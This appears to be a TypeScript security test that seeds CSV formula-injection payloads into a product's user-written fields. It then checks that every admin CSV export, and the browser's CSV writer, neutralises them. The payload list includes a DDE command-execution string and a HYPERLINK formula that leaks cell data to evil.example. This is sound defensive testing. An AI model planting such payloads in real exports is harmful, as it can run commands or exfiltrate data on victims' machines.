import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'
import type { HttpAppOptions } from '../../src/platform/http/routing/create-app.ts'
import { unguardCell } from '../../src/shared/csv/formula-guard.ts'
import { csvText } from '../../web/ui/table/csv-text.ts'
import { openScene } from '../isolation/ask-both-ways.ts'
import { casesOf, type Scene } from '../isolation/cases/cases.ts'
import { sendRequest, withBrowserHeaders } from '../isolation/send-request.ts'
import { openWorld, type TamperedWith } from '../isolation/two-website-world.ts'
import { createFinding, type FindingBuilder, type Proof, type ProofOptions } from '../proof.ts'
import { placeHostileOrder } from './hostile-orders.ts'
import { cure, findColumnsOf, poison, type TextColumn } from './poisoned-columns.ts'

/** Prefixes that spreadsheets treat as formulas, alone and after characters a CSV writer might skip. */
const starts = ['=', '+', '-', '@', '\t', '\r', '＝']
const bodies = [
  '1+1',
  'cmd|" /C calc"!A0',
  'HYPERLINK("http://evil.example/?"&A1,"x")',
  'SUM(1;2),"a"',
  `IMPORTXML(CONCAT("a","b"),"//a")\r\n=2`,
]
const payloads = starts.flatMap((start) => bodies.map((body) => `${start}${body}`))
/** Minimum number of CSV columns reached; below it the proof no longer reaches the exports. */
const COLUMNS_MIN = 15
/** Orders cover all of these already. */
const SHORT = 2

export const filesRunNoFormula: Proof = {
  id: 'S16',
  promise: 'A spreadsheet runs no cell of any CSV file of the product, whatever people have written',
  run: (options) => attackFiles(options, (text) => text),
  /** The same files without the prefix that the CSV writer puts before formulas. */
  control: (options) => attackFiles({ ...options, isShort: true }, withoutGuard),
}

interface Lab {
  scene: Scene
  found: FindingBuilder
  caches: TamperedWith['caches']
  asReceived(text: string): string
  /** CSV columns that contained a payload. */
  reached: Set<string>
}

async function attackFiles(options: ProofOptions, asReceived: Lab['asReceived']) {
  const found = createFinding()
  const caches: TamperedWith['caches'] = []
  const http = (app: HttpAppOptions, world: TamperedWith) => {
    caches.push(...world.caches)
    return { ...app, routes: app.routes.map((route) => ({ ...route, rateLimit: 'none' as const })) }
  }
  const scene = await openScene(await openWorld(options, { http }), 0)
  const lab: Lab = { scene, found, caches, asReceived, reached: new Set() }
  const chosen = options.isShort ? payloads.slice(0, SHORT) : payloads
  await scene.world.remember(async () => {
    for (const payload of payloads) await placeHostileOrder(scene.world, scene.site.websiteId, payload)
  })
  const { paths, texts } = await findFiles(lab)
  const columns = await findColumnsOf(scene.world.lab.owner, scene.site.websiteId, texts)
  found.count('files', paths.length)
  found.count('columns of tables', columns.length)
  for (const payload of chosen) {
    await poisonAll(lab, columns, [...texts], payload)
    for (const path of paths) await judge(lab, path, payload)
    for (const column of columns) await cure(scene.world.lab.owner, scene.site.websiteId, column, payload)
    options.say(`${JSON.stringify(payload.slice(0, 12))} is in ${lab.reached.size} columns of files`)
  }
  judgeBrowser(lab)
  found.count('columns of files that held a formula', lab.reached.size)
  if (lab.reached.size < COLUMNS_MIN) found.violation(`only ${lab.reached.size} columns of files were reached`)
  return found.finding
}

/** Every admin route that returns CSV, and the user-written texts in these files. */
async function findFiles(lab: Lab): Promise<{ paths: string[]; texts: Set<string> }> {
  const [paths, texts] = [new Set<string>(), new Set<string>()]
  for (const path of await listPaths(lab.scene)) {
    const text = await read(lab, path)
    if (text === undefined) continue
    paths.add(path)
    for (const written of writtenIn(lab.scene, text)) texts.add(written)
  }
  return { paths: [...paths], texts }
}

/** Requests of the isolation proof, sent as the owner. */
async function listPaths(scene: Scene): Promise<string[]> {
  const gets = scene.world.routes.filter(({ method, faces }) => method === 'GET' && faces.includes('manage'))
  const cases = await Promise.all(
    gets.map(({ path }) => casesOf[`GET ${path}`]?.(scene, scene.inhabitant, 'manage') ?? []),
  )
  return cases.flat().flatMap(({ object, path }) => (object === 'own' ? [path] : []))
}

/** Whole cells, and those that list several texts; words in capitals alone are the product's own. */
function writtenIn({ site }: Scene, text: string): string[] {
  const canaries = [...site.canaries]
  const isWritten = (part: string) =>
    canaries.some((canary) => part.includes(canary)) || (/[A-Z\s@.]/.test(part) && /[a-z]{2}/.test(part))
  return rowsOf(text)
    .slice(1)
    .flat()
    .flatMap((cell) => [unguardCell(cell), ...cell.split(', ')])
    .filter((part) => isWritten(part) && !/^\d|^America\//.test(part))
}

/** Undefined if the response is not CSV. */
async function read({ scene, asReceived }: Lab, path: string): Promise<string | undefined> {
  const { world, site, inhabitant } = scene
  const one = { object: 'own' as const, name: path, method: 'GET', path, names: '' }
  const asked = withBrowserHeaders(world, site, 'manage', inhabitant, one)
  const { status, headers, text } = await sendRequest(world, inhabitant.cookies.manage, asked)
  return status === 200 && headers['content-type']?.startsWith('text/csv') ? asReceived(text) : undefined
}

const rowsOf = (text: string): string[][] => parse(text, { bom: true, record_delimiter: '\r\n' })

async function poisonAll(lab: Lab, columns: TextColumn[], among: string[], text: string): Promise<void> {
  const { scene, found, caches } = lab
  for (const column of columns) {
    const isTaken = await poison(scene.world.lab.owner, scene.site.websiteId, column, { text, among })
    if (!isTaken) found.count('columns that refuse a formula')
  }
  for (const cache of caches) cache.clear()
}

/** A negative amount is a number, which a spreadsheet adds up. */
const isRun = (cell: string) => starts.some((start) => cell.startsWith(start)) && !/^-\d+(?:\.\d+)?$/.test(cell)

async function judge(lab: Lab, path: string, payload: string): Promise<void> {
  const { found } = lab
  const text = await read(lab, path)
  if (text === undefined) return found.count('files that could not be read')
  found.count('files read')
  if (!text.startsWith('\uFEFF')) found.violation(`${path} does not say that it is UTF-8`)
  const [heads = [], ...rows] = rowsOf(text)
  for (const row of [heads, ...rows])
    for (const [n, cell] of row.entries()) judgeCell(lab, { path, head: heads[n] ?? '', cell, payload })
}

interface Cell {
  path: string
  head: string
  cell: string
  payload: string
}

function judgeCell({ found, reached }: Lab, { path, head, cell, payload }: Cell): void {
  if (isRun(cell)) found.violation(`${path}: ${head} is ${cell.slice(0, 60)}`)
  const written = unguardCell(cell)
  if (written.startsWith(payload) || payloads.some((one) => written.startsWith(one.trim())))
    reached.add(`${path.split('?')[0]} ${head}`)
}

/** CSV files written by the admin's tables in the browser. */
function judgeBrowser({ found, asReceived }: Lab): void {
  for (const payload of payloads) {
    const [, [cell = ''] = []] = rowsOf(asReceived(csvText(['A'], [[payload]])))
    found.count('cells written by the browser')
    if (isRun(cell)) found.violation(`The browser wrote ${cell.slice(0, 60)}`)
    if (unguardCell(cell) !== payload) found.violation(`The browser wrote ${cell} instead of ${payload}`)
  }
}

function withoutGuard(text: string): string {
  const rows = rowsOf(text).map((cells) => cells.map(unguardCell))
  return `\uFEFF${stringify(rows, { record_delimiter: '\r\n' })}`
}
